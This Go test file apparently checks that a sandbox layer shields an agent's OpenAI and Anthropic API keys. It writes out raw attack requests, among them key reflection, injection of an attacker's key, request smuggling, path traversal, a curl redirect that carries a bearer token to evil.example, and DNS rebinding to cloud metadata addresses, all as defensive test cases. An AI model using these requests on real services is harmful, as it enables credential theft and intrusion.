//go:build linux

package credentials

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/nono-run/nono/test/hosts"
	"github.com/nono-run/nono/test/internet"
	"github.com/nono-run/nono/testllm"
)

// An attempt is what an agent sends to get at a key, or past the layer. Outside, where the agent has
// the key itself and the provider's own address, it succeeds.
type attempt struct {
	threat, does string
	service      string
	pieces       []string // each in a packet of its own
	got          func(o outcome) bool
}

// outcome is what came of an attempt.
type outcome struct {
	answer   string
	key      string            // the real one
	provider []testllm.Request // what the provider saw
}

// hasKey reports whether the answer has the key, or much of it.
func hasKey(o outcome) bool { return strings.Contains(o.answer, o.key[len("sk-te"):]) }

// theirs is a key of the attacker's own: what is sent with it, he has.
const theirs = "sk-of-the-attacker"

// carriesTheirs reports whether the provider saw it.
func carriesTheirs(o outcome) bool {
	return slices.ContainsFunc(o.provider, func(r testllm.Request) bool {
		return strings.Contains(fmt.Sprint(r.Query, r.Header), theirs)
	})
}

// arrives reports whether the provider saw a request for a path.
func arrives(path string) func(outcome) bool {
	return func(o outcome) bool {
		return slices.ContainsFunc(o.provider, func(r testllm.Request) bool { return r.Path == path })
	}
}

const (
	auth    = "Authorization: Bearer {TOKEN}\r\n"
	the     = " HTTP/1.1\r\nHost: {HOST}\r\nX-Attempt: {NUMBER}\r\n"
	end     = "Connection: close\r\n\r\n"
	reflect = "{BASE}/stand-in/reflect"
)

func get(target string, lines ...string) string {
	return "GET " + target + the + strings.Join(lines, "") + end
}

func post(target, body string, lines ...string) []string {
	return []string{fmt.Sprintf("POST %s%sContent-Length: {LENGTH}\r\n%s%s", target, the,
		strings.Join(lines, ""), end), body}
}

var attempts = []attempt{
	{"E64", "the key repeated in headers", "openai", []string{"HEAD " + reflect + the + auth + end}, hasKey},
	{"E64", "the key repeated in an error", "openai", []string{get(reflect+"?status=400", auth)}, hasKey},
	{"E64", "the key repeated in an answer", "openai", []string{get(reflect, auth)}, hasKey},
	{"E64", "the key repeated in pieces of 7 bytes", "openai", []string{get(reflect+"?split=7", auth)}, hasKey},
	{"E64", "the key repeated byte by byte", "openai", []string{get(reflect+"?split=1", auth)}, hasKey},
	{"E64", "Anthropic's repeated", "anthropic", []string{get("/v1/stand-in/reflect", "x-api-key: {TOKEN}\r\n")}, hasKey},
	{"E64", "a token in the query, repeated", "openai", []string{get(reflect+"?note={TOKEN}", auth)}, hasKey},
	{"E64", "a token for a key in the query, repeated", "openai", []string{get(reflect+"?api_key={TOKEN}", auth)}, hasKey},
	{"E64", "a token in the body, repeated", "openai", post(reflect, "{TOKEN}", auth), hasKey},
	{"E64", "a token in a header that is no credential, repeated", "openai", []string{get(reflect, auth, "X-Note: {TOKEN}\r\n")}, hasKey},
	{"E64", "a token in two packets of a body, repeated", "openai", []string{
		"POST " + reflect + the + auth + "Transfer-Encoding: chunked\r\n" + end + "9\r\n{FIRST}", "\r\n{RESTLENGTH}\r\n{REST}\r\n0\r\n\r\n",
	}, hasKey},
	{"E61", "another key in the key's place", "openai", []string{get("{BASE}/models", "Authorization: Bearer "+theirs+"\r\n")}, carriesTheirs},
	{"E61", "another key beside the token, in the same header", "openai", []string{get("{BASE}/models", auth, "Authorization: Bearer "+theirs+"\r\n")}, carriesTheirs},
	{"E61", "the same before it", "openai", []string{get("{BASE}/models", "authorization: Bearer "+theirs+"\r\n", auth)}, carriesTheirs},
	{"E61", "another key in another header", "openai", []string{get("{BASE}/models", auth, "X-Api-Key: "+theirs+"\r\n")}, carriesTheirs},
	{"E61", "the same, as some servers read it", "openai", []string{get("{BASE}/models", auth, "x_api_key: "+theirs+"\r\n")}, carriesTheirs},
	{"E61", "another key in a cookie", "anthropic", []string{get("/v1/models", "X-Api-Key: {TOKEN}\r\n", "Cookie: session="+theirs+"\r\n")}, carriesTheirs},
	{"E61", "another key for a proxy", "openai", []string{get("{BASE}/models", auth, "Proxy-Authorization: Basic "+theirs+"\r\n")}, carriesTheirs},
	{"E61", "another key in the query", "openai", []string{get("{BASE}/models?api_key="+theirs, auth)}, carriesTheirs},
	{"E61", "the same behind a semicolon", "openai", []string{get("{BASE}/models?a=1;access_token="+theirs, auth)}, carriesTheirs},
	{"E62", "a request behind another one", "openai", []string{
		"GET {BASE}/models" + the + auth + "\r\n" + get("{BASE}/hidden", "Authorization: Bearer "+theirs+"\r\n"),
	}, arrives("/v1/hidden")},
	{"E62", "a request in a body that has a length and chunks", "openai", []string{
		"POST {BASE}/models" + the + auth + "Content-Length: 400\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" +
			get("{BASE}/hidden", "Authorization: Bearer "+theirs+"\r\n"),
	}, arrives("/v1/hidden")},
	{"E62", "a path beside the service's", "openai", []string{get("/v1beta/other", auth)}, arrives("/v1beta/other")},
	{"E62", "the same behind dots", "openai", []string{get("{BASE}/%2e%2e/admin", auth)}, arrives("/v1/../admin")},
	{"E62", "another protocol", "openai", []string{get("{BASE}/models", auth, "Connection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n")}, func(o outcome) bool {
		return slices.ContainsFunc(o.provider, func(r testllm.Request) bool { return r.Header.Get("Upgrade") == "h2c" })
	}},
	{"E62", "a method of another's choice", "openai", []string{"TRACE {BASE}/models" + the + auth + end}, func(o outcome) bool {
		return slices.ContainsFunc(o.provider, func(r testllm.Request) bool { return r.Method == http.MethodTrace })
	}},
}

// encoded is an attempt as raw.py takes it, with its number, when the agent has this in the key's
// place.
func (a attempt) encoded(number int, token string) string {
	body := strings.ReplaceAll(a.pieces[len(a.pieces)-1], "{TOKEN}", token)
	fill := strings.NewReplacer("{NUMBER}", fmt.Sprint(number), "{LENGTH}", fmt.Sprint(len(body)),
		"{RESTLENGTH}", fmt.Sprintf("%x", len(token)-9))
	var pieces []string
	for _, p := range a.pieces {
		pieces = append(pieces, fill.Replace(p))
	}
	text, err := json.Marshal([]any{a.service, pieces})
	if err != nil {
		panic(err) // it is made of strings
	}
	return string(text)
}

// attackers is where the attackers lie.
func attackers(t *testing.T) string {
	t.Helper()
	here, err := filepath.Abs("attack")
	if err != nil {
		t.Fatal(err)
	}
	return here
}

// having gives the user both keys in his environment.
func (u *user) having(llm *testllm.Server) {
	u.Env = append(u.Env,
		"OPENAI_API_KEY="+llm.Keys.OpenAI, "ANTHROPIC_API_KEY="+llm.Keys.Anthropic,
		"OPENAI_BASE_URL=https://api.openai.com/v1", "ANTHROPIC_BASE_URL=https://api.anthropic.com")
}

// TestThreats makes every attempt outside, with the key itself and no layer, where each has to
// succeed, and inside, where none does.
func TestThreats(t *testing.T) {
	for _, inside := range []bool{false, true} {
		t.Run(map[bool]string{false: "outside", true: "inside"}[inside], func(t *testing.T) {
			_, llm := providers(t, testllm.Options{})
			u := newUser(t)
			u.having(llm)
			keys := map[string]string{"openai": llm.Keys.OpenAI, "anthropic": llm.Keys.Anthropic}
			args := []string{"/usr/bin/python3", attackers(t) + "/raw.py"}
			for n, a := range attempts {
				token := keys[a.service]
				if inside {
					token = strings.Repeat("0", 64) // a token is as long as this
				}
				args = append(args, a.encoded(n, token))
			}
			cmd := u.Command(args...)
			if inside {
				cmd = u.inside(both+" --read "+attackers(t), args...)
			}
			r := u.Succeeds(cmd)
			var answers []string
			if err := json.Unmarshal([]byte(r.Stdout), &answers); err != nil || len(answers) != len(attempts) {
				t.Fatalf("%v\n%s", err, r)
			}
			for n, a := range attempts {
				o := outcome{answer: dechunked(answers[n]), key: keys[a.service]}
				for _, seen := range llm.Requests() {
					if seen.Header.Get("X-Attempt") == fmt.Sprint(n) {
						o.provider = append(o.provider, seen)
					}
				}
				// What repeats a key did so, and was seen to.
				if inside && a.threat == "E64" && (len(o.provider) != 1 || !strings.Contains(o.answer, "******")) {
					t.Errorf("%s %s: the provider did not repeat it:\n%s\n%+v", a.threat, a.does, o.answer, o.provider)
				}
				if got := a.got(o); got == inside {
					t.Errorf("%s %s: it succeeds: %v\n%s\n%+v", a.threat, a.does, got, o.answer, o.provider)
				}
			}
		})
	}
}

// dechunked is an answer without what its encoding put between two pieces.
func dechunked(answer string) string {
	head, body, _ := strings.Cut(answer, "\r\n\r\n")
	if !strings.Contains(head, "Transfer-Encoding: chunked") {
		return answer
	}
	var text strings.Builder
	for {
		line, rest, ok := strings.Cut(body, "\r\n")
		var size int
		if _, err := fmt.Sscanf(line, "%x", &size); !ok || err != nil || size > len(rest)-2 {
			return head + "\r\n\r\n" + text.String()
		}
		text.WriteString(rest[:size])
		body = rest[size+2:]
	}
}

// What follows is for clients that do what raw.py does not: follow, connect, and wait.

// TestRedirect: the provider leads to another host, which is allowed, and the client goes there with
// all that it has. The other host has the token then, and the provider lets nobody in with it.
func TestRedirect(t *testing.T) {
	const lead = `curl -sS --location-trusted -H "Authorization: Bearer $OPENAI_API_KEY" ` +
		`"$OPENAI_BASE_URL/stand-in/redirect?to=https://evil.example/v1/models"`
	for _, inside := range []bool{false, true} {
		i, llm := providers(t, testllm.Options{})
		i.Authority.Set("evil.example", netip.MustParseAddr("6.6.6.66"))
		var caught []string
		var mu sync.Mutex
		i.Web.Handle("evil.example", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			mu.Lock()
			defer mu.Unlock()
			caught = append(caught, strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "))
			_, _ = io.WriteString(w, "mine")
		}))
		u := newUser(t)
		u.having(llm)
		cmd := u.Command("sh", "-c", lead)
		if inside {
			cmd = u.inside(both+" --allow-host evil.example", "sh", "-c", lead)
		}
		if r := u.Succeeds(cmd); r.Stdout != "mine" || len(caught) != 1 {
			t.Fatalf("the other host was not reached: %s", r)
		}
		if got := caught[0] == llm.Keys.OpenAI; got == inside || caught[0] == "" {
			t.Errorf("the other host has %q, which is the key: %v", caught[0], got)
		}
		if got := u.status("https://api.openai.com/v1/models", caught[0]); (got == "200") == inside {
			t.Errorf("with what it has, the provider answers %s", got)
		}
	}
}

// status is how a request with a key is answered, sent by another process of the user's.
func (u *user) status(url, key string) string {
	u.T.Helper()
	return u.Finish(u.Command("curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "20",
		"-H", "Authorization: Bearer "+key, url)).Stdout
}

// TestStolenToken is what a token is worth that was carried out: nothing to another process of the
// user's while the session runs, which is not even connected; nothing at the provider; nothing in
// another session, nor at another service of the same one; nothing when the session is over.
func TestStolenToken(t *testing.T) {
	for name, on := range everywhere {
		t.Run(name, func(t *testing.T) {
			_, llm := providers(t, testllm.Options{})
			u := newUser(t)
			u.having(llm)
			u.on = on
			stolenToken(u, llm)
		})
	}
}

func stolenToken(u *user, llm *testllm.Server) {
	t := u.T
	before := loopbackPorts(t)
	a := u.begin(u.inside(both, "bash", "-c", `
		echo $OPENAI_API_KEY $OPENAI_BASE_URL $ANTHROPIC_BASE_URL
		while read -r url; do
			curl -s -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" $url
		done`))
	first := strings.Fields(a.line())
	if len(first) != 3 {
		t.Fatalf("the agent says %q", first)
	}
	token, here, there := first[0], first[1], first[2]
	otherSession := func() string {
		return u.Succeeds(u.inside(both, "sh", "-c",
			"curl -s -o /dev/null -w '%{http_code}' -H 'Authorization: Bearer "+token+"' $OPENAI_BASE_URL/models")).Stdout
	}
	for what, try := range map[string]struct{ got, want string }{
		"its own agent":                    {a.ask(here + "/models"), "200"},                                       // the control
		"the key, at the provider":         {u.status("https://api.openai.com/v1/models", llm.Keys.OpenAI), "200"}, // the control
		"at another service":               {a.ask(there + "/v1/models"), "401"},
		"another process, at the listener": {u.status(here+"/models", token), "000"},
		"another process, at the provider": {u.status("https://api.openai.com/v1/models", token), "401"},
		"another session":                  {otherSession(), "401"},
	} {
		if try.got != try.want {
			t.Errorf("%s: %s, want %s", what, try.got, try.want)
		}
	}
	// In tier B the sockets themselves can be connected to.
	opened := 0
	for port := range loopbackPorts(t) {
		if before[port] {
			continue
		}
		opened++
		if got := u.status(fmt.Sprintf("http://127.0.0.1:%d/v1/models", port), token); got != "000" {
			t.Errorf("another process, at port %d: %s", port, got)
		}
	}
	if (opened > 0) != (u.on != hosts.Host{}) {
		t.Errorf("%d sockets of the layer's lie on the host's loopback", opened)
	}
	a.over()
	if got := otherSession(); got != "401" {
		t.Errorf("after the session, in another one: %s", got)
	}
	if got := u.status("https://api.openai.com/v1/models", token); got != "401" {
		t.Errorf("after the session, at the provider: %s", got)
	}
}

// loopbackPorts are those of IPv4's loopback at which something listens.
func loopbackPorts(t *testing.T) map[uint64]bool {
	t.Helper()
	table, err := os.ReadFile("/proc/self/net/tcp")
	if err != nil {
		t.Fatal(err)
	}
	found := map[uint64]bool{}
	for line := range strings.Lines(string(table)) {
		const listening = "0A"
		f := strings.Fields(line)
		if len(f) < 4 || f[3] != listening {
			continue
		}
		if hex, ok := strings.CutPrefix(f[1], "0100007F:"); ok {
			port, err := strconv.ParseUint(hex, 16, 16)
			if err != nil {
				t.Fatal(err)
			}
			found[port] = true
		}
	}
	return found
}

// TestRebinding (E58): the provider's name leads to where the key must not be sent. Nobody there
// sees a packet.
func TestRebinding(t *testing.T) {
	const ask = `curl -sS -k --max-time 20 -H "Authorization: Bearer $OPENAI_API_KEY" "$OPENAI_BASE_URL/models"`
	for address, leaves := range map[string]bool{ // whether the machine itself would keep it
		"169.254.169.254": true, "10.1.2.3": true, "192.168.1.1": true, "100.64.0.1": true,
		"198.18.0.1": true, "fd00:ec2::254": true, "64:ff9b::a9fe:a9fe": true,
		"0.0.0.0": false, "127.0.0.1": false, "::1": false, internet.Machine.String(): false,
	} {
		for _, inside := range []bool{false, true} {
			i, llm := providers(t, testllm.Options{})
			to := netip.MustParseAddr(address)
			i.Authority.Set("api.openai.com", to)
			u := newUser(t)
			u.having(llm)
			cmd := u.Command("sh", "-c", ask)
			if inside {
				cmd = u.inside(both, "sh", "-c", ask)
			}
			r := u.Finish(cmd)
			sent, err := i.Tap.Sent()
			if err != nil {
				t.Fatal(err)
			}
			tried := sent[internet.Packet{Protocol: "tcp", To: netip.AddrPortFrom(to, 443)}] > 0
			if !inside {
				if tried != leaves {
					t.Errorf("%s: outside the name does not lead there: %v", address, sent)
				}
				continue
			}
			if tried || len(llm.Requests()) > 0 || !strings.Contains(r.Stdout, "was not reached") {
				t.Errorf("%s: %s\n%v", address, r, sent)
			}
		}
	}
}
